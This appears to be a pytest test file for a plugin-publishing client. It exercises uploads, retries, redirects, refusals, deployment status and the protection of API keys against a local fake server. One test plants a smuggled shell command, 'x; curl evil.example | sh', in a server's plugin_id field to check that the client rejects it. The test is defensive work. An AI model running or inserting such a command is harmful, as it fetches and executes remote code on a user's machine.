"""Publishing against a server on this machine: what it sends, and that every fault ends well or is explained."""

from __future__ import annotations

import json
import traceback
from contextlib import suppress

import pytest

from tests.support.platforms import KEY, NAMESPACE, platform_server
from tests.support.plugins import NAME, make_plugin
from toolchain.core.errors import ExitCode, MixpeekError
from toolchain.core.reporter import Phase, SilentReporter, StreamReporter
from toolchain.publish.client.errors import (
    AlreadyThere,
    AnswerMalformed,
    KeyRefused,
    PluginRefused,
    QuotaReached,
    ServerUnavailable,
    UploadFailed,
)
from toolchain.publish.client.platform import Platform
from toolchain.publish.client.retry import Retry
from toolchain.publish.client.transport import Connection, Transport
from toolchain.publish.client.upload import PutOrder, put_file
from toolchain.publish.journal import Journal
from toolchain.publish.packing import PackOrder, pack_plugin
from toolchain.publish.publishing import (
    DeploymentFailed,
    Publisher,
    PublishOrder,
    StillUnderWay,
    Teller,
    Waiting,
    wait_for_deployment,
)

ID = f"{NAME}_1_0_0"


@pytest.fixture
def server():
    with platform_server() as running:
        yield running


@pytest.fixture
def order(tmp_path):
    plugin = make_plugin(tmp_path)
    plugin.write("realtime.py", "class RealtimeHandler:\n    pass\n")
    packed = pack_plugin(PackOrder(plugin.root, tmp_path / "out"), SilentReporter()).packed
    record = tmp_path / "record.jsonl"
    record.write_text('{"payload":"x"}\n')
    return PublishOrder(packed, record, "A plugin.")


def publish(server, order, tmp_path, **more):
    naps = []
    connection = Connection(server.url, more.pop("key", KEY), read_seconds=30, retry=more.pop("retry", Retry()))
    waiting = Waiting(more.pop("timeout", 60.0), sleep=naps.append)
    with Transport(connection, naps.append) as transport:
        publisher = Publisher(
            Platform(transport, NAMESPACE), Journal(tmp_path / "journal"), SilentReporter(), waiting
        )
        return publisher.publish(order)


def one_release(server, order):
    """Exactly one plugin, of exactly these bytes."""
    assert list(server.plugins) == [ID]
    stored = [data for key, data in server.objects.items() if key.startswith(ID)]
    assert order.packed.path.read_bytes() in stored


def test_the_documented_way(server, order, tmp_path):
    published = publish(server, order, tmp_path)
    one_release(server, order)
    assert (published.plugin_id, published.was_there, published.record_sent) == (ID, False, False)
    assert published.status.status == "deployed"
    steps = [(seen.method, seen.path.partition("?")[0].rpartition("/")[2]) for seen in server.seen]
    assert [method for method, _ in steps] == ["POST", "PUT", "POST", "POST", "GET", "GET", "GET"]
    begun = json.loads(server.seen[0].body)
    assert begun["file_size_bytes"] == order.packed.reading.archive_bytes
    put = server.calls("PUT")[0]
    assert put.headers["Content-Type"] == "application/gzip"
    assert put.body == order.packed.path.read_bytes()
    assert json.loads(server.calls("POST", "/confirm")[0].body)["etag"] == '"etag"'


def test_a_server_that_refuses_every_other_field(server, order, tmp_path):
    server.only_documented = True
    publish(server, order, tmp_path)
    one_release(server, order)


def test_the_key_goes_to_the_api_alone(server, order, tmp_path):
    publish(server, order, tmp_path)
    for seen in server.seen:
        assert ("Authorization" in seen.headers) == (seen.method != "PUT")


@pytest.mark.parametrize("step", ["begin", "put", "confirm", "deploy", "status"])
@pytest.mark.parametrize("fault", [503, 500, "close", "done-close", "slow", (429, {"Retry-After": "1"}, {})])
def test_a_fault_at_any_call_is_outlived_or_the_same_command_goes_on(server, order, tmp_path, step, fault):
    server.faults[step] = [fault]
    with suppress(ServerUnavailable, UploadFailed, DeploymentFailed):
        publish(server, order, tmp_path)
    publish(server, order, tmp_path)
    one_release(server, order)


@pytest.mark.parametrize("fault", [503, "close", "done-close"])
def test_a_server_that_stays_broken_is_explained_and_nothing_is_lost(server, order, tmp_path, fault):
    # What was done although nobody heard of it is found out, so that only the first two can end badly then.
    steps = ("begin", "put") if fault == "done-close" else ("begin", "put", "confirm")
    for step in steps:
        server.faults[step] = [fault] * 5
        with pytest.raises(MixpeekError) as caught:
            publish(server, order, tmp_path)
        assert caught.value.exit_code is ExitCode.COULD_NOT_TELL
        server.faults[step] = []
    publish(server, order, tmp_path)
    one_release(server, order)


@pytest.mark.parametrize("size", [0, 1, 100, 700])
def test_a_connection_cut_within_the_upload(server, order, tmp_path, size):
    server.faults["put"] = [f"cut:{size}"] * 2
    publish(server, order, tmp_path)
    one_release(server, order)
    server.plugins.clear()
    server.objects.clear()


def test_a_cut_at_every_attempt_and_then_the_same_command(server, order, tmp_path):
    server.faults["put"] = ["cut:50"] * 5
    with pytest.raises(UploadFailed, match="broke off 5 times"):
        publish(server, order, tmp_path)
    published = publish(server, order, tmp_path)
    one_release(server, order)
    assert len(server.calls("POST", "/uploads")) == 1, "the upload that was begun is used again"
    assert not published.was_there


def test_publishing_again_changes_nothing(server, order, tmp_path):
    publish(server, order, tmp_path)
    again = publish(server, order, tmp_path)
    assert again.was_there
    assert len(server.calls("PUT")) == 1


def test_publishing_again_from_another_machine(server, order, tmp_path):
    publish(server, order, tmp_path / "here")
    assert publish(server, order, tmp_path / "there").was_there
    assert len(server.calls("PUT")) == 1


def test_a_version_that_exists_with_other_content(server, order, tmp_path):
    server.plugins[ID] = {"plugin_id": ID, "name": NAME, "version": "1.0.0", "code_hash": "e" * 64}
    with pytest.raises(AlreadyThere, match="raise the version"):
        publish(server, order, tmp_path)
    assert server.calls("PUT") == []


def test_a_server_that_tells_no_digest_is_not_believed_to_have_ours(server, order, tmp_path):
    server.tells_digest = False
    publish(server, order, tmp_path / "here")
    assert publish(server, order, tmp_path / "here").was_there, "we confirmed this very archive ourselves"
    with pytest.raises(AlreadyThere):
        publish(server, order, tmp_path / "there")


def test_an_object_that_is_there_already_goes_on_to_confirm(server, order, tmp_path):
    server.signed = "host;content-type;if-none-match;x-amz-checksum-sha256"
    server.faults["put"] = ["done-close"]
    publish(server, order, tmp_path)
    one_release(server, order)
    assert [seen.headers["If-None-Match"] for seen in server.calls("PUT")] == ["*", "*"]
    assert "x-amz-checksum-sha256" in {name.lower() for name in server.calls("PUT")[0].headers}


def test_headers_that_were_not_signed_are_not_sent(server, order, tmp_path):
    publish(server, order, tmp_path)
    names = {name.lower() for name in server.calls("PUT")[0].headers}
    assert not names & {"if-none-match", "x-amz-checksum-sha256"}


def test_headers_that_the_server_asks_for(server, order, tmp_path):
    asked = {"X-Amz-Meta-A": "1", "Authorization": "Bearer stolen", "Transfer-Encoding": "chunked"}
    server.begin_answer = {"upload_headers": asked}
    publish(server, order, tmp_path)
    put = server.calls("PUT")[0]
    assert put.headers["X-Amz-Meta-A"] == "1"
    assert "Authorization" not in put.headers


def test_the_upload_follows_a_redirect_with_the_body_anew_and_without_the_key(server, order, tmp_path):
    with platform_server() as store:
        server.redirect_put_to = store.url
        with pytest.raises(MixpeekError):
            publish(server, order, tmp_path)  # this server never sees the object
        assert store.calls("PUT")[0].body == order.packed.path.read_bytes()
        assert "Authorization" not in store.calls("PUT")[0].headers


def test_the_api_key_does_not_follow_a_redirect_to_another_place(server, order, tmp_path):
    with platform_server() as thief:
        server.faults["begin"] = [(307, {"Location": f"{thief.url}/v1"}, {})]
        with pytest.raises(AnswerMalformed, match="another place"):
            publish(server, order, tmp_path)
        assert thief.seen == []


@pytest.mark.parametrize("url", ["http://[", "http://h:99999/"])
def test_addresses_that_are_none(server, order, tmp_path, url):
    server.faults["begin"] = [(307, {"Location": url}, {})]
    with pytest.raises(AnswerMalformed, match="nowhere"):
        publish(server, order, tmp_path)
    server.faults["put"] = [(307, {"Location": url}, "")]
    with pytest.raises(UploadFailed, match="no URL"):
        publish(server, order, tmp_path)
    server.begin_answer = {"presigned_url": url}
    with pytest.raises(UploadFailed, match="no URL"):
        publish(server, order, tmp_path / "elsewhere")


def test_a_redirect_within_the_api_is_followed(server, order, tmp_path):
    path = f"/v1/namespaces/{NAMESPACE}/plugins/uploads"
    server.faults["begin"] = [(307, {"Location": f"{server.url}{path}"}, {})]
    publish(server, order, tmp_path)
    one_release(server, order)


def test_an_expired_url_is_asked_for_anew(server, order, tmp_path):
    expired = (403, {}, "<Error><Code>AccessDenied</Code><Message>Request has expired</Message></Error>")
    server.faults["put"] = [expired]
    publish(server, order, tmp_path)
    one_release(server, order)
    assert len(server.calls("POST", "/uploads")) == 2


def test_an_upload_that_the_server_forgot_starts_anew(server, order, tmp_path):
    server.faults["confirm"] = ["close"] * 5
    with pytest.raises(ServerUnavailable):
        publish(server, order, tmp_path)
    server.faults["confirm"] = []
    server.uploads.clear()
    server.objects.clear()
    publish(server, order, tmp_path)
    one_release(server, order)


REFUSALS = {
    "placed": (
        400,
        {
            "detail": "Security scan failed",
            "violations": [
                {
                    "file": "core.py",
                    "line": 3,
                    "column": 5,
                    "message": "Forbidden import: subprocess",
                    "severity": "error",
                }
            ],
        },
    ),
    "errors": (
        400,
        {
            "success": False,
            "validation_errors": [{"file": "core.py", "line": 3, "message": "Forbidden import: subprocess"}],
        },
    ),
    "texts": (200, {"success": False, "validation_errors": ["core.py: Forbidden import: subprocess"]}),
    "status": (
        200,
        {
            "success": True,
            "validation_status": "FAILED",
            "validation_errors": ["core.py Forbidden import: subprocess"],
        },
    ),
    "envelope": (
        422,
        {
            "success": False,
            "status": 422,
            "validation_status": "failed",
            "error": {"message": "Forbidden import: subprocess in core.py", "type": "v", "details": {}},
        },
    ),
}


@pytest.mark.parametrize("shape", REFUSALS)
def test_a_refusal_in_each_published_shape(server, order, tmp_path, shape):
    server.refusal = REFUSALS[shape]
    with pytest.raises(PluginRefused) as caught:
        publish(server, order, tmp_path)
    assert caught.value.exit_code is ExitCode.PLUGIN_AT_FAULT
    assert "Forbidden import: subprocess" in str(caught.value)
    assert "core.py" in str(caught.value)
    assert "remove the forbidden patterns" in caught.value.remedy
    assert server.plugins == {}


def test_a_refused_plugin_can_be_mended_and_published(server, order, tmp_path):
    server.refusal = REFUSALS["texts"]
    with pytest.raises(PluginRefused):
        publish(server, order, tmp_path)
    server.refusal = None
    publish(server, order, tmp_path)
    assert list(server.plugins) == [ID]


@pytest.mark.parametrize(
    "answer",
    [
        (401, {"detail": "Invalid API key"}, KeyRefused),
        (403, {"success": False, "error": {"message": "not your namespace"}}, KeyRefused),
        (403, {"success": False, "error": {"message": "plugin quota of 10 reached"}}, QuotaReached),
        (413, "", PluginRefused),
        (400, {"detail": [{"loc": ["body", "name"], "msg": "does not match"}]}, PluginRefused),
    ],
)
def test_refusals_of_the_announcement(server, order, tmp_path, answer):
    status, body, error = answer
    server.faults["begin"] = [(status, {}, body)]
    with pytest.raises(error) as caught:
        publish(server, order, tmp_path)
    assert type(caught.value) is error


def test_a_deployment_that_fails_says_why_and_the_plugin_stays_published(server, order, tmp_path):
    server.statuses = ["IN_PROGRESS", "FAILED"]
    with pytest.raises(DeploymentFailed, match="no room"):
        publish(server, order, tmp_path)
    one_release(server, order)


def test_a_deployment_that_somebody_ends_is_not_told_as_done(server, order, tmp_path):
    server.statuses = ["IN_PROGRESS", "NOT_DEPLOYED"]
    with pytest.raises(DeploymentFailed, match="published, but not deployed"):
        publish(server, order, tmp_path)
    one_release(server, order)


def test_a_refusal_is_believed_though_a_plugin_of_that_name_is_there(server, order, tmp_path):
    """Somebody else's release of the same version came in between, on a server that names no digests."""
    server.faults["confirm"] = ["close"] * 5
    with pytest.raises(ServerUnavailable):
        publish(server, order, tmp_path)
    server.tells_digest = False
    server.plugins[ID] = {"plugin_id": ID, "validation_status": "PASSED"}
    server.faults["confirm"] = [(400, {}, {"detail": "the version exists"})]
    with pytest.raises(AlreadyThere):
        publish(server, order, tmp_path)


def test_an_encrypted_platform_gets_no_archive_stored_in_the_open(order):
    place = PutOrder(
        "http://127.0.0.1:9/store?X-Amz-Signature=secret", order.packed.path, "0" * 64, "application/gzip"
    )
    with pytest.raises(UploadFailed, match="unencrypted") as caught:
        put_file(place, Connection("https://127.0.0.1:9", KEY))
    assert "secret" not in str(caught.value)


def test_a_deployment_that_is_refused_names_the_command_for_later(server, order, tmp_path):
    server.faults["deploy"] = [(403, {}, {"detail": "Enterprise only"})]
    with pytest.raises(DeploymentFailed, match=f"mixpeek plugin deploy {ID}"):
        publish(server, order, tmp_path)


def test_what_a_reviewer_stopped_is_not_to_be_deployed_again(server, order, tmp_path):
    stopped = {"error": {"message": "it calls home", "type": "release_stopped"}}
    server.faults["deploy"] = [(409, {}, stopped)]
    with pytest.raises(DeploymentFailed, match="a reviewer has stopped this release") as caught:
        publish(server, order, tmp_path)
    assert "plugin deploy" not in caught.value.remedy
    assert "raise the version and publish again" in caught.value.remedy
    server.statuses, server.status_answer = (
        ["NOT_DEPLOYED"],
        {"review_status": "quarantined", "error": "a reviewer"},
    )
    with pytest.raises(DeploymentFailed, match="a reviewer") as caught:
        publish(server, order, tmp_path)
    assert "plugin deploy" not in caught.value.remedy
    assert f"`mixpeek plugin show {ID}`" in caught.value.remedy
    assert "raise the version and publish again" in caught.value.remedy


def test_the_publisher_whose_key_is_unknown_is_told_what_to_give_to_whom(server, order, tmp_path):
    violation = {"rule": "record.wrong-key", "message": "signed by nobody", "file": "provenance"}
    server.refusal = (200, {"success": False, "violations": [violation]})
    with pytest.raises(PluginRefused, match="signed by nobody") as caught:
        publish(server, order, tmp_path)
    assert "signing.pub" in caught.value.remedy


def test_a_deployment_that_never_ends(server, order, tmp_path):
    server.statuses = ["IN_PROGRESS"]
    with pytest.raises(StillUnderWay, match=f"`mixpeek plugin status {ID} --wait`"):
        publish(server, order, tmp_path, timeout=0.5)


def test_what_a_deployment_waits_for_is_told_and_named_at_the_end(server, order, tmp_path, capsys):
    server.status_answer = {"message": "waits for a reviewer's approval"}
    server.statuses = ["QUEUED"]
    with Transport(Connection(server.url, KEY)) as transport:
        platform = Platform(transport, NAMESPACE)
        server.plugins[ID] = {"plugin_id": ID, "validation_status": "PASSED"}
        waiting = Waiting(0.2, first=0.05, longest=0.05)
        teller = Teller(StreamReporter(), Phase("status"))
        with pytest.raises(StillUnderWay, match="s the deployment is still queued: waits for a reviewer's"):
            wait_for_deployment(platform, ID, waiting, teller)
    assert capsys.readouterr().err.count("status: queued: waits for a reviewer's approval\n") == 1


def test_a_judgement_that_takes_its_time(server, order, tmp_path):
    server.confirm_answer = {"validation_status": "PENDING"}
    published = publish(server, order, tmp_path)
    assert published.confirmation.validation_status == "passed"


@pytest.mark.parametrize(
    ("status", "error"), [("FAILED", PluginRefused), ("REJECTED", StillUnderWay), (None, StillUnderWay)]
)
def test_only_a_plugin_that_the_server_passed_is_published(server, order, tmp_path, status, error):
    """The confirmation is done and its answer lost: what the server then says of the plugin counts."""
    server.faults["confirm"] = ["done-close"]
    server.confirm_answer = {"validation_status": "PENDING"}
    server.plugin_answer = {"validation_status": status}
    with pytest.raises(error):
        publish(server, order, tmp_path, timeout=0.5)
    assert server.calls("POST", "/deploy") == []


def test_a_judgement_that_nobody_documented_is_none(server, order, tmp_path):
    server.confirm_answer = {"validation_status": "ON HOLD"}
    server.plugin_answer = {"validation_status": "ON HOLD"}
    with pytest.raises(StillUnderWay) as caught:
        publish(server, order, tmp_path, timeout=0.5)
    assert "plugin status" not in caught.value.remedy, "there is no deployment yet"
    assert server.calls("POST", "/deploy") == []


def test_a_registry_that_takes_the_record_gets_it(server, order, tmp_path):
    server.begin_answer = {"accepts": ["record"]}
    published = publish(server, order, tmp_path)
    assert published.record_sent
    assert json.loads(server.calls("POST", "/confirm")[0].body)["record"] == {"statements": [{"payload": "x"}]}


@pytest.mark.parametrize("body", ["<html>gateway</html>", "[1, 2]", '{"upload_id": 3}', "{}", '"text"'])
def test_an_answer_that_is_none_is_named(server, order, tmp_path, body):
    server.faults["begin"] = [(200, {}, body)]
    with pytest.raises(AnswerMalformed, match="--base-url"):
        publish(server, order, tmp_path)


def test_an_id_in_a_confirmation_that_would_be_shell_text_ends_it(server, order, tmp_path):
    server.confirm_answer = {"plugin_id": "x; curl evil.example | sh"}
    with pytest.raises(AnswerMalformed, match="plugin_id") as caught:
        publish(server, order, tmp_path)
    assert "curl" not in str(caught.value)
    assert server.calls("POST", "/deploy") == []


def test_the_key_is_in_no_message_journal_or_traceback(server, order, tmp_path):
    server.faults["begin"] = [(400, {}, {"detail": f"you sent Bearer {KEY}"})]
    with pytest.raises(PluginRefused, match=r"Bearer \*\*\*") as caught:
        publish(server, order, tmp_path)
    told = "".join(traceback.format_exception(caught.value)) + repr(vars(caught.value))
    assert KEY not in told
    publish(server, order, tmp_path)
    for file in (tmp_path / "journal").iterdir():
        assert KEY not in file.read_text()
        assert file.stat().st_mode & 0o077 == 0
    assert KEY not in repr(Connection(server.url, KEY))


def test_the_signature_of_the_url_is_in_no_message(server, order, tmp_path):
    server.faults["put"] = [(418, {}, "no")]
    with pytest.raises(UploadFailed) as caught:
        publish(server, order, tmp_path)
    assert "Signature=secret" not in str(caught.value)


def test_a_plugin_without_realtime_is_deployed_for_batches(server, tmp_path):
    plugin = make_plugin(tmp_path)
    packed = pack_plugin(PackOrder(plugin.root, tmp_path / "out"), SilentReporter()).packed
    (tmp_path / "record").touch()
    published = publish(server, PublishOrder(packed, tmp_path / "record"), tmp_path)
    assert published.deployment.status == "batch_only"
    assert "deployment_type=batch_only" in server.calls("POST", "/deploy")[0].path
